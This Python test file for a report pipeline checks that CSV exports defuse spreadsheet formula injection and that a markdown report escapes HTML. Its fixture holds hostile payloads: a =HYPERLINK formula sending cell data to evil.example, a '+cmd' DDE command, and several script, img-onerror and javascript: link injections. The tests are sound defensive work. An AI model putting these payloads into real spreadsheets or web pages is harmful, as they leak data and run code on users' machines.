"""Issue #16, findings 10 and 11: no CSV cell runs as a spreadsheet formula, and report.md carries no
live HTML or link from a document, a case slug or a reviewer's reason. The JSON files stay exact."""

from __future__ import annotations

import csv
import json

from pipeline.aggregate.verdicts import aggregate
from pipeline.data import Document, Entity, PageSpan, Passage
from pipeline.report.build import write_reports

SLUG = "kota-<img src=x onerror=alert(1)>"
LINES = ['=HYPERLINK("http://evil.example/?q="&A1,"klik") Delegasi Kota Karangsari berkunjung ke Seokjin pada '
         '9 Agustus 2015 dan anggaran terbatas.',
         "+cmd|' /C calc'!A0 Dinas tidak mengetahui adanya kerja sama [klik](javascript:alert(1)) sama sekali.",
         "@SUM(1+1) Program belum berjalan <script>alert(1)</script> dan tidak ada tindak lanjut "
         "<javascript:alert(2)>.",
         "-2+3 Kunjungan balasan tidak pernah terjadi.\n[x]: javascript:alert(3)"]


def hostile() -> Document:
    text = "\n".join(LINES) + "\n"
    d = Document(doc="e" * 16, source="<b>notulen</b>.txt", case=SLUG, type="visit_report", text=text,
                 pages=[PageSpan(1, 0, len(text))])
    start = 0
    for body in LINES:
        d.passages.append(Passage(doc=d.doc, page=1, start=start, end=start + len(body), text=body, case=SLUG,
                                  scores={"commitment": 0.9}, elements=["commitment"], stance="obstacle",
                                  stance_scores={"obstacle": 0.9}, obstacles=["no_follow_up"]))
        start += len(body) + 1
    at = text.index("9 Agustus 2015")
    d.entities.append(Entity(d.doc, 1, at, at + 14, "9 Agustus 2015", "DATE", "2015-08-09"))
    return d


def reports(tmp_path):
    doc = hostile()
    verdicts = aggregate([SLUG], doc.passages, {doc.doc: doc})
    verdicts[SLUG]["commitment"].override = {"reviewer": "<i>ana</i>", "at": "2026-01-01", "status": "fulfilled",
                                             "replaced_status": "not_fulfilled",
                                             "reason": "see [proof](javascript:alert(4)) <script>x</script>"}
    return doc, write_reports(tmp_path, [doc], verdicts, formats=("md", "csv", "json"))


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    doc, paths = reports(tmp_path)
    rows = list(csv.DictReader(paths["evidence.csv"].open(encoding="utf-8", newline="")))
    quotes = {r["quote"] for r in rows}
    assert quotes, "no evidence rows"
    for q in quotes:
        assert not q.startswith(("=", "+", "-", "@", "\t", "\r")), q
        assert q.startswith("'") and doc.text.find(q[1:]) >= 0  # the quote itself, after one single quote
    timeline = list(csv.DictReader(paths["timeline.csv"].open(encoding="utf-8", newline="")))
    assert timeline and all(r["quote"].startswith("'=HYPERLINK(") for r in timeline)
    scores = [r["score"] for r in csv.DictReader(paths["verdicts.csv"].open(encoding="utf-8", newline=""))
              if r.get("score", "").startswith("-")]
    assert all(s.lstrip("-").replace(".", "").isdigit() for s in scores)  # negative numbers stay numbers


def test_json_quotes_stay_exact(tmp_path):
    doc, paths = reports(tmp_path)
    events = json.loads(paths["timeline.json"].read_text())["cases"][SLUG]
    assert events[0]["sources"][0]["quote"].startswith('=HYPERLINK("http://evil.example')


def test_markdown_report_has_no_live_html_or_links(tmp_path):
    _, paths = reports(tmp_path)
    md = paths["report.md"].read_text(encoding="utf-8")
    for live in ("<script", "<img", "<b>", "<i>", "<javascript:", "](javascript:", "]: javascript:"):
        assert live not in md, live
    assert "## kota-&lt;img src=x onerror=alert(1)&gt;" in md  # the case slug
    assert "[proof]\\(javascript:alert(4)) &lt;script&gt;x&lt;/script&gt;" in md  # the override reason
    assert "&lt;b&gt;notulen&lt;/b&gt;.txt" in md  # the document's name
